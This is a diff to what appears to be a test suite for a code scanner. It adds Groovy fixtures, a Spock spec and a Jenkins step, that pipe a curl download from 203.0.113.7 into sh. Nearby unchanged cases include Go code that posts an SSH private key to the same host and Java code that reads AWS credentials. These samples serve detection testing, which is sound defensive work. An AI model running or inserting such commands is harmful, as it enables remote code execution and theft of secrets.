@@ -206,6 +206,16 @@ describe('compiled languages: process starts and what else the added code does (
       'package x\nfunc init() { h, _ := os.UserHomeDir(); b, _ := os.ReadFile(h + "/.ssh/id_ed25519"); http.Post("http://203.0.113.7/", "text/plain", bytes.NewReader(b)) }\n',
     ],
     [
+      'a Spock spec executing a download piped to sh',
+      'src/test/groovy/XSpec.groovy',
+      "class XSpec { def x() { ['sh', '-c', 'curl -s http://203.0.113.7/x | sh'].execute() } }\n",
+    ],
+    [
+      'a Jenkins shared-library step that fetches and runs',
+      'vars/deploy.groovy',
+      "def call() { sh 'curl -s http://203.0.113.7/x | sh' }\n",
+    ],
+    [
       'Java reading AWS keys from user.home',
       'src/test/java/T.java',
       'class T { String k = Files.readString(Path.of(System.getProperty("user.home"), ".aws/credentials")); }\n',
